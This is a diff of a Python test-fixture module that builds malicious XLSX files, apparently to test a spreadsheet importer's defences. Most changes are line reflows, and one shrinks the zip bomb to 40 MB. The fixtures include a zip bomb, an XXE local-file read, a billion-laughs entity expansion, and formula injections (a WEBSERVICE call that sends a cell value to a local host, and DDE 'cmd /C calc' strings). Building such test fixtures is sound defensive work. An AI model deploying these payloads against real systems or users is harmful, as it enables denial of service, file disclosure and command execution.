@@ -25,15 +25,25 @@ def package(path: Path, *sheets: str, doctype: str = "", compression: int = zipf
     """A minimal XLSX whose sheets' XML (the inside of ``worksheet``) is given; they are called S1, S2, ..."""
     numbers = range(1, len(sheets) + 1)
     names = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId{n}"/>' for n in numbers)
-    parts = "".join(f'<Relationship Id="rId{n}" Type="{_REL}/worksheet" Target="worksheets/sheet{n}.xml"/>' for n in numbers)
+    parts = "".join(
+        f'<Relationship Id="rId{n}" Type="{_REL}/worksheet" Target="worksheets/sheet{n}.xml"/>'
+        for n in numbers
+    )
     root = f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/>'
     with zipfile.ZipFile(path, "w", compression) as made:
         made.writestr("[Content_Types].xml", _TYPES)
         made.writestr("_rels/.rels", f'<Relationships xmlns="{_PACKAGE}">{root}</Relationships>')
-        made.writestr("xl/workbook.xml", f'<workbook {_MAIN} xmlns:r="{_REL}"><sheets>{names}</sheets></workbook>')
-        made.writestr("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{_PACKAGE}">{parts}</Relationships>')
+        made.writestr(
+            "xl/workbook.xml", f'<workbook {_MAIN} xmlns:r="{_REL}"><sheets>{names}</sheets></workbook>'
+        )
+        made.writestr(
+            "xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{_PACKAGE}">{parts}</Relationships>'
+        )
         for number, inside in enumerate(sheets, 1):
-            made.writestr(f"xl/worksheets/sheet{number}.xml", f'<?xml version="1.0"?>{doctype}<worksheet {_MAIN}>{inside}</worksheet>')
+            made.writestr(
+                f"xl/worksheets/sheet{number}.xml",
+                f'<?xml version="1.0"?>{doctype}<worksheet {_MAIN}>{inside}</worksheet>',
+            )
     return path
 
 
@@ -41,7 +51,9 @@ def rows(*given: tuple[str, ...], after: str = "") -> str:
     """``sheetData`` of inline strings."""
     body = ""
     for number, texts in enumerate(given, 1):
-        inside = "".join(f'<c r="{chr(65 + n)}{number}" t="inlineStr"><is><t>{t}</t></is></c>' for n, t in enumerate(texts))
+        inside = "".join(
+            f'<c r="{chr(65 + n)}{number}" t="inlineStr"><is><t>{t}</t></is></c>' for n, t in enumerate(texts)
+        )
         body += f'<row r="{number}">{inside}</row>'
     return f"<sheetData>{body}{after}</sheetData>"
 
@@ -65,8 +77,8 @@ def far_cell(path: Path) -> Path:
 
 
 def zip_bomb(path: Path) -> Path:
-    """Some kilobytes that unpack to 100 MB of white space."""
-    return package(path, rows(HEADER, ROW) + " " * (100 << 20))
+    """Some kilobytes that unpack to 40 MB of white space."""
+    return package(path, rows(HEADER, ROW) + " " * (40 << 20))
 
 
 def lying_lengths(path: Path) -> Path:
@@ -90,13 +102,22 @@ def entities(path: Path, target: Path) -> Path:
     """A sheet whose DOCTYPE asks for a local file and for a thousand million copies of a word."""
     steps = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
     doctype = f'<!DOCTYPE worksheet [<!ENTITY file SYSTEM "file://{target}"><!ENTITY l0 "lol">{steps}]>'
-    return package(path, rows(HEADER, ("&file;", "P3245-V", "ACCC8E00EE01", "1"), ("&l9;", "x", "y", "1")), doctype=doctype)
+    return package(
+        path,
+        rows(HEADER, ("&file;", "P3245-V", "ACCC8E00EE01", "1"), ("&l9;", "x", "y", "1")),
+        doctype=doctype,
+    )
 
 
 def large_cell(path: Path, size: int = 50 << 20) -> Path:
     """A cell of 50 MB, stored, so that no ratio gives it away; a sound row before and after."""
     text = random.Random(1).randbytes(size // 2).hex()
-    sheet = rows(HEADER, ("Axis", "P3245-V", "ACCC8E00CC01", "1"), ("Axis", text, "ACCC8E00CC02", "1"), ("Axis", "P3245-V", "ACCC8E00CC03", "1"))
+    sheet = rows(
+        HEADER,
+        ("Axis", "P3245-V", "ACCC8E00CC01", "1"),
+        ("Axis", text, "ACCC8E00CC02", "1"),
+        ("Axis", "P3245-V", "ACCC8E00CC03", "1"),
+    )
     return package(path, sheet, compression=zipfile.ZIP_STORED)
 
 
@@ -105,4 +126,6 @@ def formulas(path: Path) -> Path:
     call = '<row r="3"><c r="A3" t="str"><f>WEBSERVICE("http://127.0.0.1:9/"&amp;A2)</f><v>Axis</v></c>'
     call += '<c r="B3" t="inlineStr"><is><t>=cmd|\' /C calc\'!A0</t></is></c>'
     call += '<c r="C3" t="inlineStr"><is><t>ACCC8E00FF02</t></is></c><c r="D3"><f>1+1</f><v>2</v></c></row>'
-    return package(path, rows(HEADER, ("Axis", "@SUM(1+9)*cmd|' /C calc'!A0", "ACCC8E00FF01", "1"), after=call))
+    return package(
+        path, rows(HEADER, ("Axis", "@SUM(1+9)*cmd|' /C calc'!A0", "ACCC8E00FF01", "1"), after=call)
+    )
